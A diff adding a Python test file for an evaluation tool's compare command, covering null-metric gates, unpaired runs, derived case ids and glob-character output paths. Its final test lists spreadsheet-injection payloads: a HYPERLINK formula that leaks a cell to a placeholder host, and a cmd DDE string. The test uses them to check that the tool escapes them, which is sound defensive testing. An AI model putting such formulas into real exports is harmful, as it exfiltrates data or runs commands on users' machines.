@@ -1,0 +1,168 @@
+"""Issue 22 items 5, 6 and 8: compare must not pass a CI job it could not
+check. A gate on a metric that is null (or missing) on a side fails with the
+reason; nothing paired exits 2; derived case ids come from the inputs, never
+from the answer; an --output with glob characters is refused."""
+from __future__ import annotations
+
+import json
+import os
+
+import numpy as np
+
+from pipeline.cli import run
+from schemas.cases import source_columns, to_case
+from tests.compare_tables import write_run
+from tests.pipeline_helpers import run_cli
+
+IDS = [f"c{i}" for i in range(40)]
+SUITES, VERDICTS = np.array(["s"] * 40), np.array(["PASS"] * 40)
+
+
+def _values(shift: float = 0.0, null: bool = False) -> np.ndarray:
+    return np.full(40, np.nan) if null else np.clip(np.linspace(0.2, 0.8, 40) + shift, 0, 1)
+
+
+def _compare(out: str, *extra: str) -> int:
+    return run(["compare", "--output", out, "--baseline", "b", "--candidate", "c", *extra])
+
+
+def _gate(tmp_path, text: str) -> str:
+    cfg = tmp_path / "gate.yaml"
+    cfg.write_text(text)
+    return str(cfg)
+
+
+def test_a_gate_on_a_metric_null_in_the_candidate_fails(tmp_path, capsys):
+    """Item 5: it printed `gate: passed (2 rules, 2 checks)` and exited 0."""
+    out = str(tmp_path / "out")
+    write_run(out, "b", "2026-01-01", "bot", IDS, SUITES,
+              {"faithfulness": _values(), "rougeL": _values()}, VERDICTS)
+    write_run(out, "c", "2026-01-02", "bot", IDS, SUITES,
+              {"faithfulness": _values(null=True), "rougeL": _values()}, VERDICTS)
+    cfg = _gate(tmp_path, "gate:\n  - {metric: faithfulness, max_drop: 0.02}\n"
+                          "  - {metric: rougeL, max_drop: 0.02}\n")
+    capsys.readouterr()
+    assert _compare(out, "--config", cfg) == 4
+    lines = capsys.readouterr().out.splitlines()
+    assert lines[0] == ("gate: FAILED gate[0] {metric: faithfulness, max_drop: 0.02}: bot "
+                        "faithfulness: null in every case of the candidate (40 paired cases, "
+                        "none with a value on both sides)"), lines
+    assert lines[1] == "gate: 1 of 2 checks failed (2 rules)"
+
+
+def test_a_gate_on_a_metric_null_in_the_baseline_or_missing_fails(tmp_path, capsys):
+    out = str(tmp_path / "out")
+    write_run(out, "b", "2026-01-01", "bot", IDS, SUITES,
+              {"faithfulness": _values(null=True), "bleu": _values()}, VERDICTS)
+    write_run(out, "c", "2026-01-02", "bot", IDS, SUITES, {"faithfulness": _values()}, VERDICTS)
+    cfg = _gate(tmp_path, "gate:\n  - {metric: faithfulness, max_drop: 0.02}\n"
+                          "  - {metric: bleu, max_drop: 0.02}\n")
+    capsys.readouterr()
+    assert _compare(out, "--config", cfg) == 4
+    said = capsys.readouterr().out
+    assert "faithfulness: null in every case of the baseline" in said
+    assert "bleu: not computed in the candidate run" in said
+    assert "gate: 2 of 2 checks failed (2 rules)" in said
+    page = open(os.path.join(out, "runs", "c", "compare", "b.md"), encoding="utf-8").read()
+    assert "not computed in the candidate run" in page
+
+
+def test_a_gate_rule_naming_no_metric_of_either_run_is_still_a_usage_error(tmp_path, capsys):
+    out = str(tmp_path / "out")
+    for run_id in ("b", "c"):
+        write_run(out, run_id, "2026-01-01", "bot", IDS, SUITES, {"bleu": _values()}, VERDICTS)
+    capsys.readouterr()
+    assert _compare(out, "--config", _gate(tmp_path, "gate: [{metric: blue, max_drop: 0.1}]\n")
+                    ) == 2
+    assert "matches nothing compared" in capsys.readouterr().err
+
+
+def test_nothing_paired_exits_2_and_writes_nothing(tmp_path, capsys):
+    """Item 6: '0 paired cases … 5 only in baseline, 5 only in candidate', exit 0."""
+    out = str(tmp_path / "out")
+    write_run(out, "b", "2026-01-01", "bot", IDS[:5], SUITES[:5], {"bleu": _values()[:5]},
+              VERDICTS[:5])
+    write_run(out, "c", "2026-01-02", "bot", IDS[5:10], SUITES[:5], {"bleu": _values()[:5]},
+              VERDICTS[:5])
+    capsys.readouterr()
+    assert _compare(out) == 2
+    err = capsys.readouterr().err.strip()
+    assert err == ("evalbeam: error: no case of c pairs with one of b: 5 only in baseline, 5 "
+                   "only in candidate, 0 with a repeated case id (are they the same cases? "
+                   "give both inputs a case_id column)"), err
+    assert not os.path.exists(os.path.join(out, "comparisons"))
+    assert not os.path.exists(os.path.join(out, "runs", "c", "compare"))
+
+
+def test_derived_case_ids_come_from_the_inputs_not_the_answer():
+    cols = source_columns({})
+    case = {"question": "How long is the refund window?", "contexts": ["30 days."],
+            "expected_answer": "30 days.", "messages": [{"role": "user", "content": "Hi"}]}
+    ids = {to_case({**case, **extra}, cols, "f#0").case_id
+           for extra in ({"answer": "30 days."}, {"answer": "Ninety days."}, {},
+                         {"suite": "billing", "tags": ["x"]}, {"label": "PASS"})}
+    assert len(ids) == 1
+    for changed in ({"question": "Other?"}, {"contexts": ["60 days."]},
+                    {"expected_answer": "60 days."}, {"messages": None}):
+        assert to_case({**case, **changed}, cols, "f#0").case_id not in ids, changed
+
+
+def test_two_ragas_files_without_ids_pair_by_their_inputs(tmp_path, capsys):
+    """Item 6 end to end: a baseline and a candidate in the Ragas form (no ids,
+    different responses) pair all their cases."""
+    rows = [{"user_input": f"How long is the refund window for plan {i}?",
+             "retrieved_contexts": [f"Plan {i}: refunds within {20 + i} days."],
+             "reference": f"Refunds within {20 + i} days."} for i in range(5)]
+    out = str(tmp_path / "out")
+    cfg = tmp_path / "c.yaml"
+    cfg.write_text("input: {preset: ragas}\nbots:\n  - {name: recorded, type: precomputed}\n"
+                   "metrics: [exact_match, keyword_recall]\n")
+    for run_id, answer in (("b", "Refunds within {d} days."), ("c", "About {d} days, I think.")):
+        path = tmp_path / f"{run_id}.jsonl"
+        path.write_text("".join(json.dumps({**r, "response": answer.format(d=20 + i)}) + "\n"
+                                for i, r in enumerate(rows)))
+        assert run_cli("--input", str(path), "--output", out, "--config", str(cfg),
+                       "--run-id", run_id) == 0
+    capsys.readouterr()
+    assert _compare(out) == 0
+    assert "5 paired cases over 1 bots; 0 only in baseline, 0 only in candidate" \
+        in capsys.readouterr().out
+
+
+def test_post_run_commands_refuse_an_output_with_glob_characters(tmp_path, capsys):
+    """Item 8: `compare --output 'out*'` read every matching folder and created a
+    literal `out*/` folder."""
+    for name in ("out1", "out2"):
+        for run_id in ("b", "c"):
+            write_run(str(tmp_path / name), run_id, "2026-01-01", "bot", IDS, SUITES,
+                      {"bleu": _values()}, VERDICTS)
+    pattern = str(tmp_path / "out*")
+    for argv in (["compare", "--output", pattern, "--baseline", "b", "--candidate", "c"],
+                 ["status", "--output", pattern, "--run-id", "c"],
+                 ["calibrate", "--output", pattern, "--run-id", "c"]):
+        capsys.readouterr()
+        assert run(argv) == 2, argv
+        err = capsys.readouterr().err.strip()
+        assert err.startswith(f"evalbeam: error: --output {pattern!r} contains the glob "
+                              "character(s) *") and "\n" not in err, err
+    assert sorted(os.listdir(tmp_path)) == ["out1", "out2"]
+
+
+def test_unpaired_csv_cells_cannot_run_as_formulas(tmp_path):
+    """Item 12: `=HYPERLINK(...)` or `=1+1` went into unpaired.csv as is; OWASP's
+    fix is a leading ' on a cell starting with = + - @ tab or CR."""
+    import csv
+    from pipeline.postrun.compare import Side, compare
+    out = str(tmp_path / "out")
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"]
+    write_run(out, "b", "2026-01-01", "bot", IDS[:5] + hostile, np.array(["s"] * 13),
+              {"bleu": np.linspace(0, 1, 13)}, np.array(["PASS"] * 13))
+    write_run(out, "c", "2026-01-02", "bot", IDS[:5], SUITES[:5], {"bleu": _values()[:5]},
+              VERDICTS[:5])
+    c = compare(out, Side("b"), Side("c"))
+    with open(c["unpaired_csv"], newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    got = sorted(r["case_id"] for r in rows)
+    assert got == sorted(("'" + h if h != "plain" else h) for h in hostile), got
+    assert all(r["kind"] == "only_in_baseline" and r["bot"] == "bot" for r in rows)
